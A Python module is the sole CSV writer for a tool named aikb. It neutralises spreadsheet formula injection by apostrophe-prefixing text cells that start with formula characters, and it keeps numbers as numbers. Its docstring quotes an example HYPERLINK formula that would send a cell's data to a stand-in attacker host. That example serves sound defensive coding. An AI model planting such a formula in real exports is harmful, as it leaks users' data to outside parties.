"""The one CSV writer: every CSV aikb writes (`aikb export`, the UI's downloads) goes through it.

A spreadsheet evaluates a cell that starts with = + - @ (and, in some, a tab or a carriage return)
as a formula, so a title such as `=HYPERLINK("http://attacker/?"&A1,"Open")` in an export would run
in the analyst's spreadsheet. Following OWASP's CSV-injection advice, such a *text* cell is written
with a leading apostrophe, which spreadsheets show as text and drop from the displayed value.

Numbers stay numbers: a value of -3.5 in a numeric column (a Python or numpy number) is data,
not a formula, and is written as is, so score columns still sort and sum. The same characters in
text ("-3.5" that arrived as a string, "+1 point") are neutralised: text cannot be told apart from
a formula by its look, and the apostrophe costs nothing but a visible quote mark.
"""
from __future__ import annotations

import csv
import io
import numbers
from typing import IO, Any, Iterable, Mapping, Sequence

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """VALUE as it should appear in a CSV cell: None -> "", numbers kept, formula-leading text prefixed."""
    if value is None:
        return ""
    if isinstance(value, numbers.Number):  # int, float, Decimal, numpy numbers; bool: True/False
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_LEADS):
        return "'" + text
    return text


class SafeCsvWriter:
    """A csv.writer over OUT whose every cell passes safe_cell (header included)."""

    def __init__(self, out: IO[str], fields: Sequence[str]) -> None:
        self.fields = list(fields)
        self._writer = csv.writer(out, lineterminator="\r\n")

    def header(self) -> None:
        self._writer.writerow([safe_cell(name) for name in self.fields])

    def row(self, row: Mapping[str, Any] | Sequence[Any]) -> None:
        """Write one row: a mapping (keys of FIELDS, missing ones empty) or a sequence in FIELDS order."""
        values = [row.get(name) for name in self.fields] if isinstance(row, Mapping) else list(row)
        self._writer.writerow([safe_cell(v) for v in values])


def write_csv(out: IO[str], fields: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> int:
    """Write a header and ROWS to OUT; returns the number of rows written (streams, constant memory)."""
    writer = SafeCsvWriter(out, fields)
    writer.header()
    count = 0
    for row in rows:
        writer.row(row)
        count += 1
    return count


def csv_text(fields: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
    """The whole CSV as a string (for a download button)."""
    buffer = io.StringIO()
    write_csv(buffer, fields, rows)
    return buffer.getvalue()
